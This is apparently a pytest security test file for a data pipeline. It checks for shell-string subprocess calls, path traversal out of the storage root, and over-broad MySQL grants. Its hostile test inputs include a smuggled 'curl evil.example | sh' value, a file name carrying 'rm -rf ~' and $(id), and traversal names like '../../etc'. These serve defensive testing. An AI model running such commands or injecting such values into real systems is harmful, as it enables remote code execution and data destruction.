"""No shell strings, no path outside the storage root, database users confined to their own
database. (The password-leak check runs a whole pipeline: tests/e2e.)"""

from __future__ import annotations

import ast
import os
import random
import string
import subprocess
import uuid
from pathlib import Path

import pytest

from tasks.core import Layout, RetuneError, journal_path
from tests.conftest import ROOT
from tests.mysql_support import DOCKER, mysql_root

PYTHON_DIRS = ("dags", "plugins", "tasks", "scripts", "bench", "tests", "docker")
SUBPROCESS_CALLS = {"run", "Popen", "call", "check_call", "check_output"}
SHELL_CALLS = {"system", "popen", "getoutput", "getstatusoutput", "create_subprocess_shell"}


def python_files() -> list[Path]:
    return sorted(p for d in PYTHON_DIRS for p in (ROOT / d).rglob("*.py"))


def shell_string_calls(path: Path) -> list[str]:
    """Calls in ``path`` that hand a shell a string: shell=True, os.system and the like, or a
    subprocess given one string instead of an argument list."""
    found = []
    for node in ast.walk(ast.parse(path.read_text(), str(path))):
        if not isinstance(node, ast.Call):
            continue
        func = node.func
        name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
        module = getattr(func.value, "id", "") if isinstance(func, ast.Attribute) else ""
        where = f"{path.relative_to(ROOT)}:{node.lineno}"
        if name in SHELL_CALLS and module in {"os", "subprocess", "asyncio"}:
            found.append(f"{where} {name}()")
        for keyword in node.keywords:
            if keyword.arg == "shell" and not (
                isinstance(keyword.value, ast.Constant) and keyword.value.value is False
            ):
                found.append(f"{where} shell=")
        if name in SUBPROCESS_CALLS and (module == "subprocess" or name == "Popen") and node.args:
            first = node.args[0]
            if isinstance(first, ast.JoinedStr | ast.BinOp) or (
                isinstance(first, ast.Constant) and isinstance(first.value, str)
            ):
                found.append(f"{where} {name}(<a string>)")
    return found


def test_no_subprocess_gets_a_shell_string() -> None:
    files = python_files()
    assert len(files) > 50
    assert [call for path in files for call in shell_string_calls(path)] == []


def test_the_check_finds_each_kind_of_shell_string(tmp_path: Path) -> None:
    sample = ROOT / "tests" / f"_shell_sample_{uuid.uuid4().hex}.py"
    sample.write_text(
        "import os, subprocess\n"
        "subprocess.run(f'spark-submit {x}')\n"
        "subprocess.Popen(['ls'], shell=True)\n"
        "os.system('ls')\n"
        "subprocess.check_output('ls ' + y)\n"
        "subprocess.run(['ls', x], check=True)\n"
    )
    try:
        found = shell_string_calls(sample)
    finally:
        sample.unlink()
    assert [f.split(" ", 1)[1] for f in found] == [
        "run(<a string>)",
        "shell=",
        "system()",
        "check_output(<a string>)",
    ]


def test_shell_scripts_never_eval_input() -> None:
    scripts = [*(ROOT / "docker").glob("*.sh"), *(ROOT / "scripts").glob("*.sh"), ROOT / ".ci/run"]
    assert len(scripts) >= 5
    for script in scripts:
        for number, line in enumerate(script.read_text().splitlines(), 1):
            code = line.split("#", 1)[0]
            assert not any(word in code.split() for word in ("eval", "source")), (script, number)
            assert "sh -c" not in code, (script, number)


def test_spark_submit_gets_hostile_values_as_single_arguments(tmp_path: Path) -> None:
    from retune.hooks import RetuneSparkSubmitHook

    from tasks.spark import job_file, stage_args

    hostile_spec = str(tmp_path / "a spec; rm -rf ~ `id` $(id).yaml")
    overrides = {"gpu": "off; curl evil.example | sh"}
    args = stage_args(hostile_spec, "2026-11-21", str(tmp_path), overrides)
    hook = RetuneSparkSubmitHook(application_args=args, name="retune-etl-x-2026-11-21")
    command = hook._build_spark_submit_command(job_file("etl"))
    assert isinstance(command, list)
    assert hostile_spec in command
    assert '{"gpu": "off; curl evil.example | sh"}' in command


def layout_paths(layout: Layout) -> list[Path]:
    return [
        layout.staging_dir,
        layout.dataset_dir,
        layout.reports_dir,
        layout.champion_file,
        layout.model_dir,
    ]


HOSTILE_NAMES = [
    "..",
    "../..",
    "../../etc",
    "/etc",
    "a/../../b",
    "demo\x00x",
    "demo/../../x",
    "~root",
    "$(id)",
    "",
    ".",
    "demo\n..",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_pipeline_name_cannot_lead_out_of_the_storage_root(name: str, tmp_path: Path) -> None:
    with pytest.raises(RetuneError, match="pipeline name"):
        Layout(tmp_path, name, "2026-11-21")


def test_no_name_and_ds_lead_out_of_the_storage_root(tmp_path: Path) -> None:
    """Random names and ds values: each is refused, or every path stays under the root."""
    chars = string.ascii_letters + string.digits + "._-/\\~$`;: \n\x00"
    rng = random.Random(7)
    accepted = 0
    for _ in range(3000):
        name = "".join(rng.choice(chars) for _ in range(rng.randint(0, 12)))
        ds = rng.choice(["2026-11-21", "../2026-11-21", "2026-11-21/..", name])
        try:
            layout = Layout(tmp_path / "root", name, ds)
        except RetuneError:
            continue
        accepted += 1
        for path in layout_paths(layout):
            assert path.resolve().is_relative_to(tmp_path / "root"), (name, ds, path)
    assert accepted > 0
    assert journal_path(tmp_path / "root").is_relative_to(tmp_path / "root")


@pytest.mark.mysql
def test_each_compose_database_user_has_grants_on_its_own_database_only(
    mysql_admin: None,
) -> None:
    """The users docker/mysql-init.sh makes for the compose stack (Airflow's and Optuna's)."""
    tag = uuid.uuid4().hex[:8]
    users = {"AIRFLOW": f"retune_af_{tag}", "OPTUNA": f"retune_op_{tag}"}
    env = {**os.environ, "MYSQL_ADMIN_HOST": "127.0.0.1", "DB_USER_HOSTS": "127.0.0.1"}
    for prefix, name in users.items():
        env.update(
            {f"{prefix}_DB_NAME": name, f"{prefix}_DB_USER": name, f"{prefix}_DB_PASSWORD": tag}
        )
    try:
        subprocess.run([str(DOCKER / "mysql-init.sh")], env=env, check=True, capture_output=True)
        for name in users.values():
            grants = mysql_root(f"SHOW GRANTS FOR '{name}'@'127.0.0.1'").stdout.splitlines()[1:]
            on_all = [g for g in grants if " ON *.* " in g]
            assert len(on_all) == 1
            assert on_all[0].startswith(f"GRANT USAGE ON *.* TO `{name}`@`127.0.0.1`")
            assert all(f" ON `{name}`.* " in g or " ON *.* " in g for g in grants), grants
            assert not [g for g in grants if "WITH GRANT OPTION" in g]
            other = next(n for n in users.values() if n != name)
            for sql in (f"SELECT 1 FROM {other}.x", "SELECT user FROM mysql.user"):
                denied = mysql_root(sql, user=name, password=tag)
                assert denied.returncode != 0 and "denied" in denied.stderr, sql
    finally:
        names = list(users.values())
        mysql_root(
            *(f"DROP DATABASE IF EXISTS {n}" for n in names),
            "DROP USER IF EXISTS " + ", ".join(f"'{n}'@'127.0.0.1'" for n in names),
        )
